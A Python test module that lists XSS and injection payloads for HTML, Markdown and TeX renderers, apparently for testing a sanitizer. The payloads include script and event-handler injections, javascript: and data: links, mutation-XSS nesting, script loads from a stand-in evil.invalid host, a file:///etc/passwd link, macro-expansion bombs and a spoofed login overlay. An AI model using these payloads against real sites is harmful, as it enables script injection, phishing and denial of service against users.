"""Texts that try to run a script, to ask for something or to break the page: in HTML, links, TeX, Markdown.

    for name, text in PAYLOADS.items(): ...

What runs would call `hook` or an alert; what asks would ask for something called "beacon".
"""

_RUN = "hook(1);alert(1)"
_ASK = "https://evil.invalid/beacon"

_HTML = {
    "script": f"<script>{_RUN}</script>",
    "script from elsewhere": f"<script src={_ASK}.js></script>",
    "script of modules": f"<script type=module>import '{_ASK}.js'</script>",
    "script in pieces": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script in capitals": f"<ScRiPt\n>{_RUN}</sCrIpT\t>",
    "script behind a closed comment": f"<!--><script>{_RUN}</script>-->",
    "img": f"<img src=x onerror={_RUN}>",
    "img in quotes": f"\"'><img src=/beacon onerror='{_RUN}'>",
    "img with slashes": f"<img/src/onerror={_RUN}>",
    "img with a set": f"<img srcset='{_ASK} 1x'>",
    "img without end": f"<img src=x onerror={_RUN} ",
    "image": f"<image href={_ASK} onerror={_RUN}>",
    "body": f"<body onload={_RUN} background={_ASK}>",
    "iframe": f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    "iframe of a document": f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    "object": "<object data='data:text/html,<script>hook(1)</script>'></object>",
    "embed": f"<embed src='{_ASK}.swf'>",
    "form": f"<form action='{_ASK}'><button formaction='javascript:{_RUN}'>send</button></form>",
    "input": f"<input autofocus onfocus={_RUN}>",
    "isindex": f"<isindex type=image src=1 onerror={_RUN}>",
    "details": f"<details open ontoggle={_RUN}><summary>s</summary></details>",
    "video": f"<video src=/beacon onerror={_RUN} poster={_ASK}></video>",
    "audio": f"<audio src=/beacon onloadstart={_RUN} autoplay></audio>",
    "source": f"<video><source onerror={_RUN}></video>",
    "marquee": f"<marquee onstart={_RUN}>m</marquee>",
    "meta": f"<meta http-equiv=refresh content='0;url={_ASK}'>",
    "base": f"<base href='{_ASK}/'>",
    "link": f"<link rel=stylesheet href={_ASK}.css>",
    "style": f"<style>@import '{_ASK}'; * {{ display: none }}</style>",
    "style of an element": "<p style='position:fixed;inset:0;background:url(/beacon)'>over all</p>",
    "animation": f"<b style='animation:pulse' onanimationstart={_RUN}>b</b>",
    "pointer": f"<b onpointerover={_RUN} onclick={_RUN}>point here</b>",
    "template": f"<template><script>{_RUN}</script></template>",
    "shadow root": f"<div><template shadowrootmode=open><img src=x onerror={_RUN}></template></div>",
    "slots": f"<slot onslotchange={_RUN}><b>x</b></slot>",
    "clobbering": "<a id=app href=javascript:hook(1)></a><img name=globalThis><form id=document></form>",
    "svg": f"<svg onload={_RUN}></svg>",
    "svg script": f"<svg><script>{_RUN}</script></svg>",
    "svg animation": f"<svg><a><animate attributeName=href values=javascript:{_RUN} /><text y=9>go</text></a></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x><script>hook(1)</script></svg>#x'></use></svg>",
    "svg foreign": f"<svg><foreignObject><iframe onload={_RUN}></iframe></foreignObject></svg>",
    "mathml": f"<math><maction actiontype='statusline#x' xlink:href='javascript:{_RUN}'>go</maction></math>",
    "mathml link": f"<math href='javascript:{_RUN}'>go</math>",
    "nested for a mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;"
                             f"&lt;img src=1 onerror={_RUN}&gt;\">",
    "nested svg for a mutation": f"<svg></p><style><a id=\"</style><img src=1 onerror={_RUN}>\">",
    "nested forms for a mutation": "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="
                                   f"'</style><img onerror={_RUN} src>'>",
    "noscript for a mutation": f"<noscript><p title=\"</noscript><img src=x onerror={_RUN}>\">",
    "select for a mutation": f"<select><template><style><!--</style><a rel=\"--></style></template></select>"
                             f"<img id=x src=y onerror={_RUN}>\">",
    "comment for a mutation": f"<!-- --!><img src=x onerror={_RUN}> -->",
    "cdata for a mutation": f"<svg><![CDATA[><image href='1' onerror={_RUN}>]]></svg>",
    "entities": "&lt;img src=x onerror=hook(1)&gt; &#60;script&#62;hook(1)&#60;/script&#62;",
    "control characters": "<img\x0csrc=x\x0bonerror=hook(1)>\x08<script\x0d>hook(1)</script>",
    "directions": "\u202e<tpircs>\u202c<script>hook(1)</script>\u2066",
}

_LINKS = {
    "link to a script": f"[go](javascript:{_RUN})",
    "link in angles": f"[go](<javascript:{_RUN}>)",
    "link in capitals": f"[go](JaVaScRiPt:{_RUN})",
    "link in entities": "[go](java&#115;cript:hook%281%29) [go](&#x6A;avascript&colon;hook%281%29)",
    "link with a tab": "[go](<java\tscript:hook(1)>) [go](java&Tab;script:hook%281%29)",
    "link with a line feed": "[go](java&NewLine;script&colon;hook%281%29) [go](<java&#10;script:hook(1)>)",
    "link behind controls": "[go](&#1;javascript:hook%281%29) [go](<\x0ejavascript:hook(1)>)",
    "link with a soft hyphen": "[go](java\u00adscript:hook%281%29) [go](\ufeffjavascript:hook%281%29)",
    "link to data": "[go](data:text/html,%3Cscript%3Ehook%281%29%3C/script%3E)",
    "link to packed data": "[go](data:text/html;base64,PHNjcmlwdD5ob29rKDEpPC9zY3JpcHQ+)",
    "link to a picture of data": "[go](data:image/svg+xml,%3Csvg%20onload=hook%281%29%3E)",
    "link to vbscript": "[go](vbscript:MsgBox%281%29) [go](VBSCRIPT:x)",
    "link to files": "[go](file:///etc/passwd) [go](blob:https://x/1) [go](view-source:x) [go](intent:x)",
    "link into the page": "[go](/retort/v1/models) [go](#/chat?system=x) [go](//evil.invalid/beacon)",
    "reference": f"[go][r] and [r]\n\n[r]: javascript:{_RUN}",
    "reference to data": "[go][d]\n\n[d]: <data:text/html,<script>hook(1)</script>> \"title\"",
    "automatic link": f"<javascript:{_RUN}> <data:text/html,x> <vbscript:x>",
    "picture": f"![alt]({_ASK}.png) ![](/beacon.png)",
    "picture of a script": f"![x](javascript:{_RUN}) ![x](data:image/svg+xml,%3Csvg%20onload=hook%281%29%3E)",
    "picture by reference": f"![x][p]\n\n[p]: {_ASK}.svg 'a \"title\" onload=hook(1)'",
    "picture whose words are HTML": f"![\"><img src=x onerror={_RUN}>]({_ASK} \"x\")",
    "picture in a link": f"[![x]({_ASK})](javascript:{_RUN})",
    "title in quotes": f"[go](https://example.org '\" onmouseover=\"{_RUN}')",
    "title of HTML": f"[go](https://example.org \"'><svg onload={_RUN}>\")",
    "address with quotes": f"[go](https://example.org/\"onmouseover=\"{_RUN})",
}

_MARKDOWN = {
    "cell of a table": f"| a | <img src=x onerror={_RUN}> |\n|:-:|--:|\n| <script>{_RUN}</script> | [x](javascript:hook(1)) |",
    "alignment of a table": "| a |\n|:-\" onload=hook(1) :|\n| b |",
    "name of a language": f"```\"><script>{_RUN}</script>\ncode\n```",
    "name of a language with a handler": f"```js\"onmouseover=\"{_RUN}\nlet x;\n```",
    "code that is HTML": f"```html\n<script>{_RUN}</script><img src=x onerror={_RUN}>\n```",
    "language that is a property": "```constructor\nx\n```\n\n```__proto__\ny\n```",
    "code in a line": f"`<img src=x onerror={_RUN}>` ``</code><script>{_RUN}</script>``",
    "heading and list": f"# <script>{_RUN}</script>\n\n- <img src=x onerror={_RUN}>\n\n> <svg onload={_RUN}>",
    "deep quotes": "> " * 300 + f"<script>{_RUN}</script>",
    "many brackets": "[" * 500 + "x" + "](javascript:hook(1))" * 20,
}

_TEX = {
    "href": rf"\(\href{{javascript:{_RUN}}}{{x}}\)",
    "url": r"$$\url{javascript:hook(1)}$$",
    "includegraphics": rf"\[\includegraphics[height=1em]{{{_ASK}.png}}\]",
    "html of TeX": r"\(\htmlData{x=1, onclick=hook(1)}{y} \htmlId{app}{z} \htmlClass{sidebar}{c}\)",
    "style of TeX": r"\(\htmlStyle{position:fixed;inset:0;background:url(/beacon)}{x}\)",
    "class": r"$\class{sidebar}{x} \cssId{app}{y}$",
    "text of HTML": rf"\(\text{{<img src=x onerror={_RUN}>}}\) $x<script>{_RUN}</script>y$",
    "unicode command": r"\(\unicode{<img src=x onerror=hook(1)>}\)",
    "colour": r"\(\color{red;background:url(/beacon)}{x} \colorbox{url(/beacon)}{y}\)",
    "endless macro": r"\(\def\a{\a\a}\a\)",
    "doubling macros": r"\(\def\a#1{\b{#1#1}}\def\b#1{\c{#1#1}}\def\c#1{\a{#1#1}}\a{x}\)",
    "doubling definitions": "$$" + r"\edef\a{xx}" + r"\edef\a{\a\a}" * 14 + r"\a" * 100 + "$$",
    "long macro, often": r"\(\def\a{" + "x" * 1000 + "}" + r"\a" * 400 + r"\)",
    "definition of an exponent": "\\(\\def²{x²}²\\) \\(\\newcommand{₂}{₂₂}₂\\)",
    "huge rule": r"\(\rule{100000em}{100000em}\) \[\rule{-9999em}{9999em}\]",
    "far away": r"\(\kern-5000em\text{LOG IN AGAIN}\) \(\raisebox{500em}{above} \hspace{9999em}\)",
    "deep braces": r"\(" + "{" * 3000 + "x" + "}" * 3000 + r"\)",
    "broken formula": rf"\(\frac{{<script>{_RUN}</script>\) $$\begin{{<img src=x onerror={_RUN}>}}$$",
}

PAYLOADS = {**_HTML, **_LINKS, **_MARKDOWN, **_TEX}
